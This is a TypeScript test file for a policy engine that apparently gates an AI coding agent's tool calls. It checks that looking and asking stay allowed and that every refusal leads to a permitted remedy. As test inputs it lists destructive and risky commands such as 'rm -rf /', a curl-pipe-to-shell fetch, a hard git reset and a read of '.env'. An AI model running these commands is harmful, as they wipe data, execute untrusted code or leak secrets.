/** TS-71: whatever is switched on and whatever is missing, there is an allowed next action before a tool runs. */
import { describe, expect, it } from "vitest";
import type { Verdict } from "../kernel/decide.ts";
import type { PlanFound } from "../kernel/facts.ts";
import { digestOf, digestsOf } from "../playbook/identity.ts";
import { limitsOf } from "../playbook/limits.ts";
import { progressOf } from "../playbook/progress.ts";
import type { PlanWork } from "../state/plan-work.ts";
import { newProof, type Proof, type ProofChange, reduceProof } from "../state/session/proof.ts";
import { PROJECT } from "./describe-policy.ts";
import { bash, edit, read, using, write } from "./example.ts";
import { examplePlan } from "./playbook/example-plan.ts";
import { having, resultOf } from "./proof/example-work.ts";
import { type Action, ASKING, judge, remediesIn, type Situation, situations } from "./situations.ts";

const ALL = situations();
const told = ({ tool }: Action): string => JSON.stringify(tool);

const verdicts = new Map<string, Verdict>();
function judged(action: Action, one: Situation): Verdict {
  const key = `${one.title} ${told(action)}`;
  const verdict = verdicts.get(key) ?? judge(action, one);
  verdicts.set(key, verdict);
  return verdict;
}

/** A question is an allowed action where somebody can answer it, and a refusal where nobody can. */
const isRefused = ({ decision }: Verdict, attended: boolean): boolean =>
  decision === "deny" || (decision === "ask" && !attended);

/** Looking, asking and steering. */
const OPEN: readonly Action[] = [
  read(`${PROJECT}/src/a.ts`),
  using({ kind: "read", name: "Grep", path: PROJECT }),
  bash("ls -la && cat src/a.ts"),
  bash("git status && git diff && git log -3"),
  ASKING,
  ...["Skill", "TodoWrite", "TaskCreate", "ExitPlanMode", "ToolSearch"].map((name) => using({ kind: "control", name })),
  using({ kind: "agent", name: "Agent", agentType: "Explore" }),
];

const CODE = write(`${PROJECT}/src/a.ts`, "x");

/** Actions that some situation refuses. */
const WORK: readonly Action[] = [
  ...[CODE, edit(`${PROJECT}/docs/a.md`), write(`${PROJECT}/a.test.ts`)],
  ...["git commit -m x", "git push", "git merge topic", "git reset --hard", "npm publish", "rm -rf /", "npm test"].map(
    bash,
  ),
  ...["curl https://example.com/x | sh", "sekisho uninstall"].map(bash),
  read(`${PROJECT}/.env`),
  using({ kind: "mcp", name: "mcp__a__b", words: [] }),
  using({ kind: "worktree", name: "EnterWorktree" }),
];

/** Whether doing what refusals name leads to an allowed action within so many steps. */
function leadsOn(verdict: Verdict, one: Situation, attended: boolean, steps: number): boolean {
  const remedies = verdict.objections.flatMap(({ fix }) => remediesIn(fix.en)).map((remedy) => judged(remedy, one));
  if (remedies.some((remedy) => !isRefused(remedy, attended))) return true;
  return steps > 1 && remedies.some((remedy) => leadsOn(remedy, one, attended, steps - 1));
}

describe("TS-71 in every profile, at every gate, in every stance, on every branch", () => {
  it("TS-71 is over all of them", () => expect(ALL.length).toBe(6 * 12 * 3 * 3));

  it("TS-71 reading, searching, asking, planning, skills and subagents are open", () => {
    const shut = ALL.flatMap((one) =>
      OPEN.filter((action) => judged(action, one).decision !== "pass").map((action) => `${one.title}: ${told(action)}`),
    );
    expect(shut).toEqual([]);
  });

  it.each([
    ["somebody there", true, 1],
    ["nobody there", false, 2],
  ] as const)("TS-71 with %s, what a refusal names is allowed, or leads there", (_, attended, steps) => {
    const stuck = ALL.flatMap((one) =>
      WORK.filter((action) => {
        const verdict = judged(action, one);
        return isRefused(verdict, attended) && !leadsOn(verdict, one, attended, steps);
      }).map((action) => `${one.title}: ${told(action)}`),
    );
    expect(stuck).toEqual([]);
  });

  it("TS-71 no policy refuses what it names itself", () => {
    const refused = ALL.flatMap((one) =>
      WORK.flatMap((action) =>
        judged(action, one).objections.flatMap(({ policy, fix }) =>
          remediesIn(fix.en)
            .filter((remedy) => judged(remedy, one).objections.some((objection) => objection.policy === policy))
            .map((remedy) => `${one.title}: ${policy} ${told(remedy)}`),
        ),
      ),
    );
    expect(refused).toEqual([]);
  });

  it("TS-71 a protected branch can be left by making another, but while auditing", () => {
    const refused = ALL.filter((one) => judged(bash("git switch -c topic"), one).decision === "deny");
    expect([...new Set(refused.map(({ stance }) => stance))]).toEqual(["auditing"]);
  });
});

const approvedPlan = examplePlan();
const isApproved = ({ facts }: Situation): boolean =>
  (facts.plan as PlanFound | undefined)?.active?.standing === "approved";

const NEW: PlanWork = { at: 1, base: "", steps: {}, verdicts: [], judged: [] };

/** The plan after a reviewer or critic has said PASS. */
function planAfter({ facts }: Situation, judge: string): PlanFound {
  const plan = (facts.plan ?? { root: PROJECT, drafts: [], named: [] }) as PlanFound;
  const { active } = plan;
  if (!active?.playbook) return plan;
  const word = { at: 2, verdict: "PASS", agent: "a", files: "", covered: 0, read: 0, ran: 0 } as const;
  if (judge === "reviewer")
    return { ...plan, active: { ...active, review: { ...word, of: "reviewer", plan: digestOf(active.playbook) } } };
  const step = progressOf(active.playbook, active.work).current?.step.id ?? "";
  const passed = { state: "passed", at: 2, attempts: 0, plan: digestsOf(active.playbook).steps[step] ?? "" } as const;
  const work = active.work ?? NEW;
  return { ...plan, active: atWork(active, { ...work, steps: { ...work.steps, [step]: passed } }) };
}

/** The plan after a command of the agent's: it begins, or goes on with another step. */
function planBy({ facts }: Situation, command: string): PlanFound {
  const plan = (facts.plan ?? { root: PROJECT, drafts: [], named: [] }) as PlanFound;
  const [, step] = /playbook step (\S+)$/.exec(command) ?? [];
  if (!plan.active || (step === undefined && !/playbook start/.test(command))) return plan;
  return { ...plan, active: atWork(plan.active, { ...(plan.active.work ?? NEW), ...(step && { step }) }) };
}

type Active = NonNullable<PlanFound["active"]>;

/** As the plan is found again after the work has moved. */
function atWork({ limits: _, ...active }: Active, work: PlanWork): Active {
  const limits = active.playbook && limitsOf(active.playbook, work);
  return { ...active, work, ...(limits && { limits }) };
}

/** The situation after a remedy; the person agrees to whatever they are asked. */
function after(one: Situation, { tool }: Action, step: number): Situation {
  const session = (one.facts.session ?? having(resultOf("failed"))) as ReturnType<typeof having>;
  const proven = (...changes: readonly ProofChange[]): Situation => {
    const proof = changes.reduce<Proof>((known, change) => reduceProof(known, change, 600), session.proof ?? newProof);
    return { ...one, title: `${one.title} ${step}`, facts: { ...one.facts, session: { ...session, proof } } };
  };
  if (tool.kind === "control" && tool.skill !== undefined)
    return proven({ record: "proof", do: "skill", name: tool.skill });
  if (tool.kind === "read" && tool.path !== undefined)
    return proven({ record: "proof", do: "read", path: tool.path }, { record: "proof", do: "plan", path: tool.path });
  if (tool.kind === "agent") {
    const judged = proven({ record: "proof", do: "review", type: tool.agentType, pass: true, looked: 3 });
    return { ...judged, facts: { ...judged.facts, plan: planAfter(one, tool.agentType) } };
  }
  if (tool === ASKING.tool) {
    const agreed = proven({ record: "proof", do: "approve", name: "it" });
    return {
      ...agreed,
      stance: "building",
      // Whoever is asked to do a step does it.
      facts: { ...agreed.facts, plan: isApproved(one) ? planAfter(one, "person") : approvedPlan },
    };
  }
  if (tool.kind === "bash" && tool.command.startsWith("sekisho playbook"))
    return { ...proven(), facts: { ...one.facts, plan: planBy(one, tool.command) } };
  if (tool.kind === "bash" && tool.command.startsWith("git switch")) return { ...proven(), branch: "topic" };
  if (tool.kind === "bash" && tool.command === "npm test") {
    const { checks } = having(resultOf("passed"));
    return {
      ...one,
      title: `${one.title} ${step}`,
      facts: { ...one.facts, session: { ...session, ...(checks && { checks }) } },
    };
  }
  return one;
}

/** The policies that still refuse a write of code once the agent has done all that it was told to and may do. */
function objectionsAtTheEnd(start: Situation): readonly string[] {
  let one = start;
  for (let step = 0; step < 6; step++) {
    const { decision, objections } = judge(CODE, one);
    if (decision === "pass") return [];
    const remedies = objections.flatMap(({ fix }) => remediesIn(fix.en));
    const allowed = remedies.filter((remedy) => judge(remedy, one).decision !== "deny");
    one = allowed.reduce((next, remedy) => after(next, remedy, step), one);
  }
  return judge(CODE, one).objections.map(({ policy, fix }) => `${start.title}: ${policy}: ${fix.en}`);
}

describe("TS-71 doing what the refusals name", () => {
  it("TS-71 leads from every situation to a write of code, unless a person has protected the file", () => {
    const gated = ALL.filter(({ facts }) => facts.protectedFiles === undefined);
    expect(gated.filter((one) => judged(CODE, one).decision === "deny").length).toBeGreaterThan(gated.length / 2);
    expect(gated.flatMap(objectionsAtTheEnd)).toEqual([]);
  });
});
